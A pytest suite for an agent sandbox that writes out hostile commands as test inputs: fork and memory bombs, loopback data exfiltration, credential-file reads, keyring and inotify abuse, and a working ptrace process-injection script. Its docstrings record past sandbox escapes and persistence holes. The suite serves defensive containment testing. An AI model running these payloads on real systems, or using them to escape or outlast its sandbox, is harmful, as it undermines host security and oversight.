"""Shell commands an agent sends are contained, and the episode keeps working afterwards."""

from __future__ import annotations

import contextlib
import ctypes
import os
import platform
import secrets
import shutil
import signal
import socket
import textwrap
import time
from pathlib import Path

import anyio
import pytest
from envcraft.core.grading import Snapshot
from envcraft.registry.catalog import get
from envcraft.registry.launch import InProcessLauncher, launch
from envcraft.registry.workspaces import WorkspaceRoot

from tests.helpers import REPO

pytestmark = [pytest.mark.anyio,
              pytest.mark.skipif(not shutil.which("bwrap"), reason="bubblewrap is not installed: apt-get install bubblewrap")]

CASES = {
    "task store": (f"ls {REPO}/tasks; cat {REPO}/tasks/office.jsonl", ["No such file"], None),
    "write outside": ("echo x > /usr/evil; echo x > /opt/env/evil; touch /evil", ["Read-only file system"], None),
    "network": ("python3 -c \"import socket; socket.create_connection(('1.1.1.1', 80), timeout=3)\"",
                ["Network is unreachable"], None),
    "fork bomb": ("bomb() { bomb | bomb & }; bomb; sleep 2; echo still-here", ["fork"], None),
    "memory bomb": ("python3 -c \"x = bytearray(4 * 1024**3)\"", ["MemoryError"], None),
    "endless loop": ("while :; do :; done", ["time limit"], 2),
    "huge output": ("yes envcraft | head -c 50000000", ["cut at the size limit"], None),
    "app state forgery": ("echo '{}' > .app/state.json; echo '{\"answer\": \"forged\"}' > .app/answer.json",
                          ["Read-only file system"], None),
    "big file": ("head -c 200000000 /dev/zero > big.bin; ls -la big.bin", ["File size limit exceeded"], None),
}


@pytest.mark.slow
@pytest.mark.parametrize("case", CASES)
async def test_contained_and_episode_goes_on(case, tmp_path):
    command, evidence, timeout = CASES[case]
    async with launch(get("office"), InProcessLauncher(), WorkspaceRoot(tmp_path)) as instance:
        args = {"command": command} | ({"timeout_seconds": timeout} if timeout else {})
        result = await instance.client.call_tool("run_shell", args)
        text = result.content[0].text
        assert any(e.lower() in text.lower() for e in evidence), text[-1500:]
        assert not Path("/usr/evil").exists() and not Path("/evil").exists()
        big = instance.workspace / "big.bin"
        assert not big.exists() or big.stat().st_size <= 64 * 2**20
        assert (instance.workspace / ".app" / "state.json").stat().st_size > 1000
        assert not (instance.workspace / ".app" / "answer.json").exists()
        after = await instance.client.call_tool("run_shell", {"command": "office contacts-search --query design | head -3"})
        assert not after.is_error and "exit code: 0" in after.content[0].text
        assert not (await instance.client.call_tool("list_dir", {})).is_error


async def test_two_workspaces_cannot_see_each_other(tmp_path):
    root = WorkspaceRoot(tmp_path)
    async with launch(get("office"), InProcessLauncher(), root) as a, launch(get("office"), InProcessLauncher(), root) as b:
        await a.client.call_tool("write_file", {"path": "secret.txt", "content": "only for a"})
        probe = await b.client.call_tool("run_shell", {"command": f"cat {a.workspace}/secret.txt; ls /workspace"})
        assert "only for a" not in probe.content[0].text
        assert not (b.workspace / "secret.txt").exists()


async def test_cli_writes_go_through_the_server_with_its_checks(tmp_path):
    async with launch(get("office"), InProcessLauncher(), WorkspaceRoot(tmp_path)) as instance:
        bad = await instance.client.call_tool("run_shell", {"command": "office todo-add --title x --owner nobody --due 2026-12-09"})
        assert "exit code: 1" in bad.content[0].text and "not an email address" in bad.content[0].text
        good = await instance.client.call_tool("run_shell", {
            "command": "office todo-add --title 'Ship it' --owner priya.shah@northwind.studio --due 2026-12-09"})
        assert "exit code: 0" in good.content[0].text
        todos = (await instance.client.call_tool("todo_list", {"owner": "priya.shah@northwind.studio"})).structured_content
        assert "Ship it" in [t["title"] for t in todos["result"]]


async def test_host_loopback_listener_receives_nothing(tmp_path):
    """The evidence is on the listener's side: no connection, no byte, whatever the command reports."""
    with socket.socket() as listener:
        listener.bind(("127.0.0.1", 0))
        listener.listen(8)
        listener.setblocking(False)
        port = listener.getsockname()[1]
        async with launch(get("office"), InProcessLauncher(), WorkspaceRoot(tmp_path)) as instance:
            await instance.client.call_tool("run_shell", {"command": (
                f"python3 -c \"import socket; s = socket.create_connection(('127.0.0.1', {port}), timeout=3); "
                f"s.sendall(b'exfiltrated')\"; echo tried")})
        with pytest.raises(BlockingIOError):
            listener.accept()  # nothing ever connected


async def test_a_planted_host_secret_never_appears(tmp_path):
    secret_dir = tmp_path / "host"
    secret_dir.mkdir()
    token = "HOST-SECRET-" + secrets.token_hex(16)
    (secret_dir / "secret.txt").write_text(token)
    (secret_dir / "secret.txt").chmod(0o644)
    async with launch(get("office"), InProcessLauncher(), WorkspaceRoot(tmp_path / "ws")) as instance:
        probe = await instance.client.call_tool("run_shell", {"command": (
            f"cat {secret_dir}/secret.txt; ls {tmp_path}; cat /etc/shadow /root/.bashrc | head -3; "
            "timeout 10 grep -rs HOST-SECRET /tmp /root /etc /opt /run | head")})
        text = probe.content[0].text
        assert f"{secret_dir}/secret.txt: No such file" in text and token not in text


@pytest.mark.slow
async def test_many_small_files_stay_within_the_shell_limits(tmp_path):
    """Disk fill by count, not size: the command is bounded in time and the episode goes on."""
    async with launch(get("office"), InProcessLauncher(), WorkspaceRoot(tmp_path)) as instance:
        filled = await instance.client.call_tool("run_shell", {"command": (
            "mkdir -p fill && cd fill && i=0; while [ $i -lt 1000000 ]; do : > f$i; i=$((i+1)); done; echo finished"),
            "timeout_seconds": 3})
        assert "time limit" in filled.content[0].text
        listed = await instance.client.call_tool("list_dir", {"path": "fill"})
        entries = listed.structured_content["result"]
        names = [e for e in entries if not e.startswith("[")]  # "[...]" lines say the listing was cut
        assert not listed.is_error and len(names) <= 1_000 and len(entries) - len(names) <= 2
        assert Snapshot.of(instance.workspace).files  # grading still reads the workspace


def _host_processes_with(text: str) -> list[int]:
    """Host pids whose command line holds `text` (zombies excluded): the evidence a process outlived its command."""
    found = []
    for entry in Path("/proc").iterdir():
        try:
            if not entry.name.isdigit() or (entry / "stat").read_text().rsplit(")", 1)[1].split()[0] == "Z":
                continue
            if text.encode() in (entry / "cmdline").read_bytes():
                found.append(int(entry.name))
        except OSError:
            continue
    return found


async def test_a_daemonized_process_ends_when_its_command_returns(tmp_path):
    """A setsid'd daemon holding no pipe and a background job holding stdout both end when the shell exits, and
    the command returns at once, not at its time limit (as a cold sandbox's pid namespace would end them)."""
    mark = "envcraft-daemon-" + secrets.token_hex(4)
    sleeper = f"python3 -c 'import time; time.sleep(300)' {mark}"
    async with launch(get("office"), InProcessLauncher(), WorkspaceRoot(tmp_path)) as instance:
        await instance.client.call_tool("run_shell", {"command": "true"})  # the sandbox is warm
        started = time.monotonic()
        result = await instance.client.call_tool("run_shell", {"command": (
            f"setsid {sleeper} </dev/null >/dev/null 2>&1 & {sleeper} & sleep 1; ps -eo args | grep -c '^python3.*{mark}'"),
            "timeout_seconds": 15})
        elapsed = time.monotonic() - started
        text = result.content[0].text
        assert "exit code: 0" in text and int(text.split("stdout:\n")[1].split()[0]) == 2, text  # both ran
        assert elapsed < 8, f"the command took {elapsed:.1f} s: a background job held it to its time limit"
        assert _host_processes_with(mark) == []
        again = await instance.client.call_tool("run_shell", {"command": "echo next"})
        assert "next" in again.content[0].text


@pytest.mark.slow
async def test_nothing_carries_from_one_command_to_the_next(tmp_path):
    """Outside the workspace nothing a command writes is there for the next one: /tmp, /dev/shm and POSIX message
    queues are emptied, System V IPC objects go with the sandbox, and the sandbox's root, /etc and /dev are read-only."""
    async with launch(get("office"), InProcessLauncher(), WorkspaceRoot(tmp_path)) as instance:
        first = await instance.client.call_tool("run_shell", {"command": (
            "echo x > /tmp/left && echo y > /dev/shm/left && ipcmk -M 4096; touch /left /etc/left /dev/left; "
            "python3 -c \"import ctypes, os; ctypes.CDLL('librt.so.1').mq_open(b'/left', os.O_CREAT | os.O_RDWR, 0o600, None)\"; "
            "ls /dev/mqueue")})
        assert "Shared memory id" in first.content[0].text and first.content[0].text.count("Read-only file system") == 3
        assert "left" in first.content[0].text.split("stdout:")[1], first.content[0].text  # the queue was made
        second = await instance.client.call_tool("run_shell", {"command": "ls -A /tmp /dev/shm /dev/mqueue; ipcs -m | grep -c 0x"})
        text = second.content[0].text
        assert "left" not in text and text.split("stdout:\n")[1].split()[-1] == "0", text
        deep = await instance.client.call_tool("run_shell", {"command": (
            "mkdir -p /tmp/d && cd /tmp/d && i=0; while [ $i -lt 1500 ]; do mkdir d && cd d; i=$((i+1)); done; echo $i")})
        assert "1500" in deep.content[0].text  # past Python's recursion limit: emptied all the same
        third = await instance.client.call_tool("run_shell", {"command": "ls -A /tmp | wc -l"})
        assert third.content[0].text.split("stdout:\n")[1].strip() == "0", third.content[0].text


async def test_no_host_path_shows_in_the_sandbox_process_table(tmp_path):
    """Every process's command line and environment inside the sandbox, the sandbox's own (pid 1) included,
    names no host path: bwrap reads its options from a descriptor."""
    async with launch(get("office"), InProcessLauncher(), WorkspaceRoot(tmp_path)) as instance:
        result = await instance.client.call_tool("run_shell", {"command": (
            "for p in /proc/[0-9]*; do tr '\\0' ' ' < $p/cmdline; echo; tr '\\0' ' ' < $p/environ; echo; done")})
        text = result.content[0].text
        assert "warm_runner.py" in text, text  # pid 1 (the warm runner: bwrap --as-pid-1) was read
        for host in (str(instance.workspace), str(tmp_path), str(REPO)):
            assert host not in text, f"{host} shows inside the sandbox: {text[:1500]}"


async def test_a_command_that_kills_the_sandbox_only_ends_its_own_run(tmp_path):
    async with launch(get("office"), InProcessLauncher(), WorkspaceRoot(tmp_path)) as instance:
        killed = await instance.client.call_tool("run_shell", {"command": "kill -9 -1; sleep 1; echo survived"})
        assert not killed.is_error
        after = await instance.client.call_tool("run_shell", {"command": "office contacts-search --query design | head -3"})
        assert "exit code: 0" in after.content[0].text, after.content[0].text


def _stopped_runners(workspace: Path) -> list[int]:
    """Host pids of this workspace's warm runners in the stopped state: a sandbox no command could start in again."""
    stopped = []
    for pid in _host_processes_with("warm_runner.py"):
        with contextlib.suppress(OSError):
            if Path(f"/proc/{pid}/stat").read_text().rsplit(")", 1)[1].split()[0] in ("T", "t") and \
                    any(Path(f"/proc/{pid}/root/workspace").glob("runner-mark-*")):
                stopped.append(pid)
    return stopped


@pytest.mark.slow
async def test_a_command_that_stops_the_runner_does_not_hang_the_next_one(tmp_path):
    """Hole: the runner is the commands' uid, so `kill -STOP` reached it; it then never reaped nor started a command,
    and every later command of the episode hit its time limit with no output (25 s each), for good. Now the server
    sees the runner stopped (or its exit status never coming) and starts a fresh sandbox. Evidence: the next command's
    own output, at once, and no stopped runner left on the host."""
    async with launch(get("office"), InProcessLauncher(), WorkspaceRoot(tmp_path)) as instance:
        await instance.client.call_tool("run_shell", {"command": f"touch runner-mark-{secrets.token_hex(4)}"})
        for attack in ("pkill -STOP -f 'warm_[r]unner'; echo stopped",  # the runner never reports this command's exit
                       "me=$$; (while [ -e /proc/$me ]; do :; done; pkill -STOP -f 'warm_[r]unner') & exit 0"):  # after it
            await instance.client.call_tool("run_shell", {"command": attack, "timeout_seconds": 10})
            started = time.monotonic()
            after = await instance.client.call_tool("run_shell", {"command": "echo next-$((6 * 7))", "timeout_seconds": 10})
            assert "next-42" in after.content[0].text and time.monotonic() - started < 8, after.content[0].text
            assert _stopped_runners(instance.workspace) == []


def _keys_holding(text: str) -> list[int]:
    return [int(line.split()[0], 16) for line in Path("/proc/keys").read_text().splitlines() if text in line]


@pytest.mark.skipif(not Path("/proc/keys").exists() or platform.machine() not in ("x86_64", "aarch64"),
                    reason="needs /proc/keys and a known add_key number")
async def test_no_key_reaches_a_host_keyring(tmp_path):
    """Hole: kernel keyrings are not namespaced by owner, and the sandbox's uid 0 is the host's: a command added a key
    to host root's user-session keyring (listed in its /proc/keys), where it stayed after the episode ended, readable by
    the next episode; a key in the sandbox's own user keyring carried from one command to the next. Keyring calls are
    now refused by a seccomp filter (seccomp.py). Evidence: the host's key list and a later command's hold no key."""
    mark = "envcraft-redteam-" + secrets.token_hex(6)
    number = {"x86_64": 248, "aarch64": 217}[platform.machine()]
    add = (f"python3 -c \"import ctypes; libc = ctypes.CDLL(None); rings = [-3, -4, -5] + [int(l.split()[0], 16) "
           f"for l in open('/proc/keys') if ' keyring ' in l]; "
           f"[libc.syscall({number}, b'user', b'{mark}', b'secret', 6, ring) for ring in rings]\"; cat /proc/keys")
    try:
        async with launch(get("office"), InProcessLauncher(), WorkspaceRoot(tmp_path)) as instance:
            await instance.client.call_tool("run_shell", {"command": add})
            later = await instance.client.call_tool("run_shell", {"command": "cat /proc/keys"})
            assert mark not in later.content[0].text
        assert _keys_holding(mark) == []
    finally:
        for key in _keys_holding(mark):  # KEYCTL_INVALIDATE: leave the host's keyrings as they were
            ctypes.CDLL(None).syscall({"x86_64": 250, "aarch64": 219}[platform.machine()], 21, key)


@pytest.mark.slow
async def test_a_command_cannot_use_up_host_roots_inotify_instances(tmp_path):
    """Hole: inotify instances are counted per host user up the user-namespace tree, and the sandbox's uid 0 is host
    root: one command holding 128 left the server, every other episode and the host's root daemons unable to make one
    (EMFILE). inotify_init/fanotify_init are now refused in the sandbox (seccomp.py). Evidence: while the command
    holds all it could get, this (host, root) process still makes an inotify instance."""
    hold = ("python3 -c \"import ctypes, time; libc = ctypes.CDLL(None); "
            "held = [fd for fd in iter(libc.inotify_init, -1)]; open('held', 'w').write(str(len(held))); time.sleep(4)\"")
    async with launch(get("office"), InProcessLauncher(), WorkspaceRoot(tmp_path)) as instance, anyio.create_task_group() as tg:
        tg.start_soon(instance.client.call_tool, "run_shell", {"command": hold, "timeout_seconds": 10})
        with anyio.fail_after(8):
            while not (instance.workspace / "held").exists():
                await anyio.sleep(0.05)
        fd = ctypes.CDLL(None).inotify_init()
        assert fd >= 0, f"the host ran out of inotify instances while the command held {(instance.workspace / 'held').read_text()}"
        os.close(fd)


# Attaches to a pid with ptrace and makes it execve `/bin/sh -c PAYLOAD NAME` (x86_64): strings and argv written
# below its stack pointer, the registers pointed at the syscall instruction it is stopped after.
INJECT = textwrap.dedent("""
    import ctypes, os, struct, sys
    libc = ctypes.CDLL(None, use_errno=True)
    libc.ptrace.restype, libc.ptrace.argtypes = ctypes.c_long, [ctypes.c_long] * 2 + [ctypes.c_void_p] * 2
    pid, strings = int(sys.argv[1]), [b"/bin/sh", b"-c", sys.argv[2].encode(), sys.argv[3].encode()]
    if libc.ptrace(16, pid, None, None) != 0:
        sys.exit(f"attach: {os.strerror(ctypes.get_errno())}")
    os.waitpid(pid, 0x40000000)
    regs = (ctypes.c_ulong * 27)()
    libc.ptrace(12, pid, None, regs)
    assert libc.ptrace(1, pid, ctypes.c_void_p(regs[16] - 2), None) & 0xFFFF == 0x050F  # after a syscall
    base, blob, addrs = (regs[19] - 8192) & ~15, b"", []
    for s in strings:
        addrs.append(base + len(blob))
        blob += s + b"\\0"
    argv = base + ((len(blob) + 15) & ~15)
    blob = blob.ljust(argv - base, b"\\0") + struct.pack("5Q", *addrs, 0)
    for i in range(0, len(blob), 8):
        libc.ptrace(5, pid, ctypes.c_void_p(base + i), ctypes.c_void_p(struct.unpack("Q", blob[i:i + 8].ljust(8, b"\\0"))[0]))
    regs[16], regs[15], regs[10], regs[14], regs[13], regs[12] = regs[16] - 2, 2**64 - 1, 59, addrs[0], argv, 0
    libc.ptrace(13, pid, None, regs)
    libc.ptrace(17, pid, None, None)
    print("injected")
""")


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the injection is written for x86_64")
async def test_a_command_cannot_ptrace_the_sandbox_init_into_a_process_that_outlives_it(tmp_path):
    """Hole: the warm sandbox's pid 1 was bwrap's reaper: dumpable and the commands' uid, so a command ptraced it into
    exec'ing a shell loop of its own. That loop was in the sandbox's cgroup leaf, not the command's: it outlived the
    command (no time limit, no memory cap of a command) and wrote FORGED into every later command's stdout through
    /proc/PID/fd/1. Now the runner, not dumpable, is pid 1 (bwrap --as-pid-1). Evidence: no process with the
    payload's name on the host after the command returned, and the next command's output is its own."""
    mark = "envcraft-persist-" + secrets.token_hex(4)
    forge = "while :; do for p in /proc/[0-9]*; do grep -q victim $p/cmdline && echo FORGED > $p/fd/1; done; sleep 0.05; done"
    async with launch(get("office"), InProcessLauncher(), WorkspaceRoot(tmp_path)) as instance:
        await instance.client.call_tool("write_file", {"path": "inject.py", "content": INJECT})
        await instance.client.call_tool("run_shell", {"command": "true"})
        attack = await instance.client.call_tool("run_shell", {"command": (
            f"for pid in 1 $(pgrep -f 'warm_[r]unner'); do python3 inject.py $pid '{forge}' {mark}; done; sleep 0.3")})
        assert _host_processes_with(mark) == [], attack.content[0].text
        victim = await instance.client.call_tool("run_shell", {"command": "echo victim; sleep 0.5"})
        assert victim.content[0].text.split("stdout:\n")[1] == "victim\n", victim.content[0].text


async def test_a_command_cannot_change_what_the_next_one_inherits(tmp_path):
    """Hole: the runner is the commands' uid, so a command reniced it (or pinned it to one CPU) from outside, and
    every later command, forked from it, ran at nice 19, unable to lower it again. The runner now checks its own
    nice value, affinity, policy and rlimits before a command and is replaced if they changed."""
    async with launch(get("office"), InProcessLauncher(), WorkspaceRoot(tmp_path)) as instance:
        probe = "nice; taskset -p $$ | sed 's/.*: //'"
        before = (await instance.client.call_tool("run_shell", {"command": probe})).content[0].text
        await instance.client.call_tool("run_shell", {"command": "renice -n 19 -p 1; taskset -p 1 1"})
        after = (await instance.client.call_tool("run_shell", {"command": probe})).content[0].text
        assert after == before


def _runner_of(workspace: Path) -> int:
    """The host pid of the warm runner whose sandbox binds `workspace` (found through /proc/PID/root)."""
    mark = next(workspace.glob("runner-mark-*")).name
    [pid] = [pid for pid in _host_processes_with("warm_runner.py") if Path(f"/proc/{pid}/root/workspace/{mark}").exists()
             and "\nNSpid:" in (status := Path(f"/proc/{pid}/status").read_text())  # pid 1 inside: not the spare
             and status.split("\nNSpid:")[1].split("\n")[0].split()[-1] == "1"]
    return pid


@pytest.mark.slow
async def test_episodes_and_the_spare_child_are_out_of_reach_and_a_killed_runner_is_replaced(tmp_path):
    """While episode A's command runs, episode B's sees no process of A's and signals none (kill -9 -1, pkill), and
    no spare child: one runner (pid 1) and its own command. A runner killed from outside mid-command ends that
    command with an error code; the next starts a fresh sandbox, and no process of the old one is left."""
    mark = "envcraft-other-" + secrets.token_hex(4)
    root = WorkspaceRoot(tmp_path)
    async with launch(get("office"), InProcessLauncher(), root) as a, launch(get("office"), InProcessLauncher(), root) as b:
        results = {}

        async def run_a() -> None:
            results["a"] = (await a.client.call_tool("run_shell", {"command": (
                f"touch runner-mark-{mark}; python3 -c 'import time; time.sleep(2.5)' {mark}; echo a-done"),
                "timeout_seconds": 10})).content[0].text

        async with anyio.create_task_group() as group:
            group.start_soon(run_a)
            with anyio.fail_after(8):
                while not _host_processes_with(mark):
                    await anyio.sleep(0.05)
            seen = (await b.client.call_tool("run_shell", {"command": (
                f"ps -eo args; pkill -9 -f '{mark[:-1]}[{mark[-1]}]'; kill -9 -1")})).content[0].text
        assert "a-done" in results["a"] and mark not in seen, (results["a"], seen)
        assert seen.count("warm_runner.py") == 1, seen  # pid 1 only: no spare child in sight
        runner = _runner_of(a.workspace)
        killed = {}

        async def run_long() -> None:
            killed["text"] = (await a.client.call_tool("run_shell", {"command": "sleep 5; echo never",
                                                                     "timeout_seconds": 10})).content[0].text

        async with anyio.create_task_group() as group:
            group.start_soon(run_long)
            with anyio.fail_after(10):  # the command has started (killed before, it would be retried in a new sandbox)
                while not _host_processes_with("sleep 5; echo never"):
                    await anyio.sleep(0.02)
            os.kill(runner, signal.SIGKILL)
        assert "never" not in killed["text"] and "exit code: 137" in killed["text"], killed["text"]
        after = (await a.client.call_tool("run_shell", {"command": "echo fresh"})).content[0].text
        assert "fresh" in after and _runner_of(a.workspace) != runner
        assert not Path(f"/proc/{runner}").exists() and _host_processes_with("sleep 5; echo never") == []


@pytest.mark.slow
async def test_commands_started_while_a_long_one_runs_never_end_it(tmp_path):
    """Hole: after each command the server hands the runner a spare child's link; while another command runs the
    runner refuses it, but a command sent to that link before the refusal was read "never started", and the server
    replaced the whole sandbox, killing the long command (exit 137). Now the refusal says busy and the short command
    is sent again. The long command is CPU-bound, so the runner is slow to read its control socket, as under load."""
    async with launch(get("office"), InProcessLauncher(), WorkspaceRoot(tmp_path)) as instance, anyio.create_task_group() as tg:
        results: list[str] = []

        async def long() -> None:
            results.append((await instance.client.call_tool("run_shell", {"command": (
                "touch long-started; python3 -c 'import time; end = time.monotonic() + 4\nwhile time.monotonic() < end: pass'; "
                "echo long-done"), "timeout_seconds": 15})).content[0].text)

        tg.start_soon(long)
        with anyio.fail_after(10):  # the short commands overlap the long one, whatever the load
            while not (instance.workspace / "long-started").exists():
                await anyio.sleep(0.02)
        short = [(await instance.client.call_tool("run_shell", {"command": f"echo short-{i}"})).content[0].text
                 for i in range(12)]
    assert all(f"short-{i}" in text for i, text in enumerate(short)), short
    assert "long-done" in results[0] and "exit code: 0" in results[0], results
